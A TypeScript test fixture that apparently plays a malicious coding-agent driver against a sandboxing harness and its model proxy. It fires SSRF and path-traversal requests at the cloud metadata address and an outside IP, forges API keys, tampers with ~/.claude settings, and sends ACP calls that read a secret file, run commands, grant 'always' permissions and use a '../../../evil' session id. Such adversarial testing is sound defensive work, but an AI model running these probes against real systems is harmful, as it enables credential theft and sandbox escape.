/**
 * The worst program that an operator could have named as a driver: started in the room in place of Claude Code, of Codex or
 * of an agent that speaks ACP, it does what its plan says, abuses the two sockets it is given, and hands in what no bot
 * should take. It stands alone: in its room there is nothing to import from.
 */
import { execFile } from 'node:child_process';
import { appendFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { createInterface } from 'node:readline';
import { setTimeout as pause } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';

interface Plan {
  readonly out: string;
  readonly rows: readonly { readonly name: string; readonly command: string }[];
  readonly endings: readonly string[];
  readonly secretFile: string;
  readonly tripped: string;
  readonly atOnce: number;
}

interface Neighbour {
  readonly tree: string;
  readonly out: string;
  readonly command: string;
}

const HERE = dirname(fileURLToPath(import.meta.url));
const never = new Promise<never>(() => {
  setInterval(() => {}, 60_000);
});

const neighbour = await file<Neighbour>('neighbour.json');
const cwd = process.cwd();
/** Where its commands start. */
let place = cwd;
const kind = process.env.EVIL_KIND ?? '';
const acp = kind === 'acp' ? speak() : null;
if (cwd === neighbour.tree || cwd.startsWith(`${neighbour.out}/`)) {
  place = neighbour.tree;
  await shell(neighbour.command);
  await never;
}
const plan = await file<Plan>('plan.json');
place = join(plan.out, '../tree');
const tries = join(plan.out, 'tries');
appendFileSync(tries, 'x');
const nth = readFileSync(tries, 'utf8').length;
if (nth === 1) {
  const report: Record<string, string> = {};
  const rest = [...plan.rows];
  const work = async (): Promise<void> => {
    for (let row = rest.shift(); row !== undefined; row = rest.shift()) report[row.name] = await shell(row.command);
  };
  await Promise.all(Array.from({ length: plan.atOnce }, work));
  Object.assign(report, await abuseOfTheModel(), acp === null ? {} : await abuseOfTheDialogue(acp));
  // For the next try, if it had the same home.
  await shell(`mkdir -p ~/.claude ~/.codex; echo '{}' >~/.claude/settings.json; echo x >~/.evil`);
  writeFileSync(join(plan.out, 'report.json'), JSON.stringify(report));
} else {
  writeFileSync(join(plan.out, `home-${nth}`), await shell('ls -A ~/.evil; rm -f ~/.evil'));
}
const ending = plan.endings[nth - 1];
if (ending === undefined) await never;
else await shell(ending);
acp?.answer();
// A success, as far as it says itself.
setTimeout(() => process.exit(0), 200);

async function file<T>(name: string): Promise<T> {
  while (!existsSync(join(HERE, name))) await pause(50);
  return JSON.parse(readFileSync(join(HERE, name), 'utf8')) as T;
}

function shell(command: string): Promise<string> {
  return new Promise((resolve) => {
    execFile('bash', ['-c', command], { cwd: place, maxBuffer: 2 ** 24 }, (_error, stdout, stderr) =>
      resolve(stdout + stderr),
    );
  });
}

/** What goes over the way to the model besides asking it; each answer is told. */
async function abuseOfTheModel(): Promise<Record<string, string>> {
  const configured = await shell('cat "$CODEX_HOME"/config.toml ~/.codex/config.toml 2>/dev/null');
  const address =
    process.env.ANTHROPIC_BASE_URL ??
    process.env.OPENAI_BASE_URL ??
    /base_url = "([^"]*)/.exec(configured)?.[1] ??
    'http://127.0.0.1:9';
  const { hostname, port } = new URL(address);
  const paths = { claude: '/v1/messages', codex: '/v1/responses', acp: '/v1/messages' };
  const own = paths[kind as keyof typeof paths];
  const ask = (method: string, path: string, body: string, headers: Record<string, string> = {}): Promise<string> =>
    new Promise((resolve) => {
      const sent = request({ hostname, port, method, path, headers, timeout: 5_000 }, (response) => {
        let text = `${response.statusCode} ${JSON.stringify(response.headers)} `;
        response.on('data', (chunk) => {
          text += String(chunk).slice(0, 2_000);
        });
        response.on('end', () => resolve(text));
      });
      sent.on('timeout', () => sent.destroy());
      sent.on('connect', (response) => resolve(`WON: connected, ${response.statusCode}`));
      sent.on('upgrade', () => resolve('WON: upgraded'));
      sent.on('error', (error) => resolve(String(error)));
      sent.end(body);
    });
  const words = [{ role: 'user', content: `mark-${kind}` }];
  const fine = { model: 'm', max_tokens: 50, messages: words, input: words };
  const json = (more: object): string => JSON.stringify({ ...fine, ...more });
  const told: Record<string, string> = {};
  for (const path of [
    '/v1/models/evil-model',
    '/v1/files',
    '/v1/messages/batches',
    '/v1/messages/count_tokens',
    '/v1/responses/x/cancel',
    '/v1/embeddings',
    '/v1/messages/../files',
    '//v1/files',
    '/v1/messages%2f..%2ffiles',
    'http://169.254.169.254/latest/meta-data/',
    'http://93.184.215.14/evil-proxied',
  ]) {
    told[`another address: ${path}`] = await ask('POST', path, '{}');
    told[`reading ${path}`] = await ask('GET', path, '');
  }
  told.tunnel = await ask('CONNECT', '93.184.215.14:443', '');
  told['web socket'] = await ask('GET', own, '', { connection: 'Upgrade', upgrade: 'websocket' });
  told['another host named'] = await ask('POST', own, json({}), { host: '169.254.169.254' });
  told['another method named'] = await ask('POST', own, json({}), { 'x-http-method-override': 'DELETE' });
  told['a key of its own'] = await ask('POST', own, json({}), { 'x-api-key': 'evil', authorization: 'Bearer evil' });
  told['the key asked back'] = await ask('POST', own, json({ metadata: { user_id: 'x' } }), { 'x-echo': 'x-api-key' });
  told['a model of its own'] = await ask('POST', own, json({ model: 'evil-dearest-model' }));
  told['an answer without end'] = await ask('POST', own, json({ max_tokens: 1e9, max_output_tokens: 1e9 }));
  told["the provider's own tools"] = await ask(
    'POST',
    own,
    json({
      tools: [
        { type: 'web_search_20250305', name: 'web_search' },
        { type: 'web_fetch_20250910', name: 'web_fetch' },
        { type: 'code_execution_20250825', name: 'code_execution' },
        { type: 'web_search' },
        { type: 'mcp', server_url: 'http://93.184.215.14/' },
      ],
    }),
  );
  told["the provider's connectors"] = await ask(
    'POST',
    own,
    json({
      mcp_servers: [{ type: 'url', url: 'http://93.184.215.14/', name: 'evil' }],
      container: 'evil',
      store: true,
    }),
  );
  told['no object'] = await ask('POST', own, '[1]');
  told['no JSON'] = await ask('POST', own, 'x'.repeat(1_000));
  told['a body without end'] = await ask('POST', own, 'x'.repeat(40 * 2 ** 20));
  told['half a request'] = await new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => socket.write('POST /v1/messages HTTP/1.1\r\nContent-Le'));
    setTimeout(() => resolve(socket.destroy().destroyed ? 'hung up' : ''), 300);
    socket.on('error', () => {});
  });
  return told;
}

interface Dialogue {
  send(message: object | string): void;
  /** Answers to requests of ours, by id. */
  readonly heard: Map<unknown, string>;
  answer(): void;
}

/** As an agent of ACP speaks, up to the prompt, which is answered when the work is done. */
function speak(): Dialogue {
  const heard = new Map<unknown, string>();
  let prompt: unknown = null;
  const send = (message: object | string): void => {
    process.stdout.write(`${typeof message === 'string' ? message : JSON.stringify(message)}\n`);
  };
  const reply = (id: unknown, result: object): void => send({ jsonrpc: '2.0', id, result });
  createInterface({ input: process.stdin }).on('line', (line) => {
    const { id, method, result, error } = JSON.parse(line) as Record<string, unknown>;
    if (method === 'initialize')
      reply(id, { protocolVersion: 1, agentCapabilities: { loadSession: true, evil: true }, authMethods: [] });
    else if (method === 'session/new') reply(id, { sessionId: '../../../evil' });
    else if (method === 'session/load') reply(id, {});
    else if (method === 'session/prompt') prompt = id;
    else heard.set(id, JSON.stringify(result ?? error));
  });
  return { send, heard, answer: () => reply(prompt, { stopReason: 'end_turn' }) };
}

/** What an agent may ask of us by the protocol, and what no protocol knows. */
async function abuseOfTheDialogue({ send, heard }: Dialogue): Promise<Record<string, string>> {
  const sessionId = '../../../evil';
  const asked: Record<string, object> = {
    'file read by the bot': { method: 'fs/read_text_file', params: { sessionId, path: plan.secretFile } },
    'file written by the bot': {
      method: 'fs/write_text_file',
      params: { sessionId, path: `${plan.tripped}/file-written-by-the-bot`, content: 'x' },
    },
    'command run by the bot': {
      method: 'terminal/create',
      params: { sessionId, command: 'touch', args: [`${plan.tripped}/command-run-by-the-bot`] },
    },
    'permission that is always given': {
      method: 'session/request_permission',
      params: {
        sessionId,
        toolCall: { toolCallId: 'x', title: 'merge main' },
        options: [{ optionId: 'always', name: 'x', kind: 'allow_always' }],
      },
    },
    'a method nobody knows': { method: 'heartline/merge', params: { number: 1 } },
    'a method that is a prototype': { method: '__proto__', params: { constructor: 1 } },
  };
  for (const [name, call] of Object.entries(asked)) send({ jsonrpc: '2.0', id: name, ...call });
  send({ jsonrpc: '2.0', id: 1_000, result: { stopReason: 'refusal' } });
  for (let count = 0; count < 500; count += 1) {
    const update = { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'x'.repeat(1_000) } };
    send({ jsonrpc: '2.0', method: 'session/update', params: { sessionId, update } });
  }
  for (let waited = 0; heard.size < Object.keys(asked).length && waited < 40; waited += 1) await pause(100);
  return Object.fromEntries(Object.keys(asked).map((name) => [name, heard.get(name) ?? 'no answer']));
}
